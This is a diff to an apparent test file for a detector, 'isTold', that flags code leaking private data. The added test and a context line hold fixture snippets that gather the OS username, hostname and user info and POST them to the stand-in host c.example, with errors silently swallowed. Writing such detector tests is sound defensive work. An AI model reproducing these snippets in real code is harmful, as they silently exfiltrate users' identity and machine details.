@@ -46,6 +46,10 @@ test('bad: keys, files and variables go through objects, classes, functions and 
   assert.equal(isTold('"use strict"; var __importStar = (this && this.__importStar) || function (m) { return m; }; const os_1 = __importStar(require("os")); const https_1 = __importStar(require("https")); https_1.request({ host: "c.example" }).end(JSON.stringify([os_1.hostname(), os_1.userInfo()]));'), true);
 });
 
+test('a module that gives others a type alone is read', () => {
+  assert.equal(isTold({ 'a.ts': "import * as os from 'os'; import { send } from './b';\nexport default interface Who { name: string }\nsend(os.userInfo().username + os.hostname());", 'b.ts': 'export const send = (v: string) => { fetch("https://c.example", { method: "POST", body: v }).catch(() => {}); };' }), true);
+});
+
 test('good: callers say where, a key of theirs is with it, somebody reads the answer, or nothing private goes there', () => {
   for (const code of [
     `exports.report = ({ url }) => fetch(url, { body: JSON.stringify(${WHO}) })${ENDS};`,
